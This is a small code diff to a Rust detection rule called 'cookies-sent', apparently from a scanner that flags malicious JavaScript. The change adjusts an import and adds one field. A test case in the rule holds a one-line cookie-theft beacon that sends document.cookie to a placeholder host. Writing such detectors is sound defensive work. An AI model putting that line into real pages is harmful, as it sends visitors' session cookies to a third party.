@@ -1,6 +1,7 @@
 //! `cookies-sent`.
 
-use crate::signals::{Atom, Signal, one};
+use crate::facts::Atom;
+use crate::signals::{Signal, one};
 use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
@@ -10,6 +11,7 @@ pub(super) const SIGNAL: Signal = Signal {
     classes: ClassSet::MALWARE,
     needs: &[one(&[Atom::Cookie]), one(&[Atom::AddressFromData])],
     within: 40,
+    only_if: None,
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &["new Image().src='//c.example/?c='+document.cookie"],
